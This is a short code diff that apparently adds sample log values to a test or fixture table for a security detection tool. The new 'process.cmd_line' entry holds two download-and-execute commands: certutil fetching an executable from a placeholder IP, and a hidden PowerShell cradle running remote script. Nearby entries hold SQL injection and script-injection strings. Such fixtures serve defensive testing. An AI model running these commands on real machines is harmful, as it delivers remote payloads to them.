@@ -23,6 +23,10 @@ TEXTS = {
     ),
     "http_request.url.query_string": ("id=1%27+union+select+null--+-", "q=%3Cscript%3Ealert(1)%3C/script%3E&page=2"),
     "query.hostname": ("xkqjvbzpwq.example", "mail.kfjwoeiruty.example.net", "a1b2c3d4e5f6.test"),
+    "process.cmd_line": (
+        "C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe",
+        "powershell.exe -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
+    ),
     "osint.value": (["malice.example"], ["good.example"]),
     "email.subject": ("Your account is suspended: verify your password now", "Cheap pills, no prescription"),
     "vedette.body_text": (
